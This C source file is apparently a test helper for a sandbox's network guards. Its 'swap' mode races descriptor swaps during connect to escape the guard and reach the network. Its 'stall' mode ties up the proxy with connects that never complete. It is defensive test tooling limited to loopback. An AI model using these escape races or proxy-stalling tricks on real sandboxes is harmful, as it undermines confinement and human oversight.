/* Attacks on capsule's guards (tests/escape_guards.rs), as a hostile program of the run would
 * make them. Loopback only.
 *
 *   guard_attacks swap HOST PORT N     a thread swaps a socketpair end and a TCP socket at one
 *                                      descriptor while another connects it to HOST:PORT (PORT 0:
 *                                      the proxy's), N rounds; with nothing listening there, a
 *                                      connect that reached the network fails ECONNREFUSED: prints
 *                                      "escaped" if one ever did (or connected), else "held"
 *   guard_attacks stall N              N connects to the proxy ($HTTP_PROXY) that never complete
 *                                      (TCP_MD5SIG: the proxy drops the SYN), O_NONBLOCK toggled
 *                                      by another thread meanwhile; then sleeps
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SLOT 100
static volatile int stop;
static int tcp_sock, unix_sock;

static void *swapper(void *arg) {
    (void)arg;
    while (!stop) {
        dup2(unix_sock, SLOT);
        dup2(tcp_sock, SLOT);
    }
    return NULL;
}

static volatile int toggled = -1;
static void *toggler(void *arg) {
    (void)arg;
    while (!stop) {
        int s = toggled;
        if (s >= 0) {
            fcntl(s, F_SETFL, O_NONBLOCK);
            fcntl(s, F_SETFL, 0);
        }
    }
    return NULL;
}

static int swap(const char *host, int port, int n) {
    const char *proxy = getenv("HTTP_PROXY");
    if (port == 0 && proxy && strrchr(proxy, ':')) port = atoi(strrchr(proxy, ':') + 1);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    inet_pton(AF_INET, host, &a.sin_addr);
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) { perror("socketpair"); return 2; }
    unix_sock = pair[0];
    pthread_t t;
    int connected = 0, refused = 0, reached = 0;
    for (int i = 0; i < n && !connected && !reached; i++) {
        tcp_sock = socket(AF_INET, SOCK_STREAM, 0);
        if (tcp_sock < 0) { perror("socket"); return 2; }
        stop = 0;
        pthread_create(&t, NULL, swapper, NULL);
        for (int j = 0; j < 20; j++) {
            if (connect(SLOT, (struct sockaddr *)&a, sizeof a) == 0) { connected = 1; break; }
            if (errno == ECONNREFUSED) { reached = 1; break; }
            if (errno == EACCES) refused++;
        }
        stop = 1;
        pthread_join(t, NULL);
        close(tcp_sock);
    }
    printf("%s refused=%d\n", connected || reached ? "escaped" : "held", refused);
    return 0;
}

static int stall(int n) {
    const char *proxy = getenv("HTTP_PROXY");
    if (!proxy || !strrchr(proxy, ':')) { puts("no HTTP_PROXY"); return 2; }
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(atoi(strrchr(proxy, ':') + 1));
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    pthread_t t;
    pthread_create(&t, NULL, toggler, NULL);
    for (int i = 0; i < n; i++) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct tcp_md5sig k = {0};
        struct sockaddr_in *ka = (struct sockaddr_in *)&k.tcpm_addr;
        ka->sin_family = AF_INET;
        inet_pton(AF_INET, "127.0.0.1", &ka->sin_addr);
        k.tcpm_keylen = 8;
        memcpy(k.tcpm_key, "secret!!", 8);
        setsockopt(s, IPPROTO_TCP, TCP_MD5SIG, &k, sizeof k);
        int syn = 127;
        setsockopt(s, IPPROTO_TCP, TCP_SYNCNT, &syn, sizeof syn);
        fcntl(s, F_SETFL, O_NONBLOCK);
        toggled = s;
        connect(s, (struct sockaddr *)&a, sizeof a);
        toggled = -1;
    }
    puts("stalled");
    fflush(stdout);
    sleep(600);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 5 && !strcmp(argv[1], "swap")) return swap(argv[2], atoi(argv[3]), atoi(argv[4]));
    if (argc == 3 && !strcmp(argv[1], "stall")) return stall(atoi(argv[2]));
    fprintf(stderr, "usage: guard_attacks swap HOST PORT N | stall N\n");
    return 2;
}
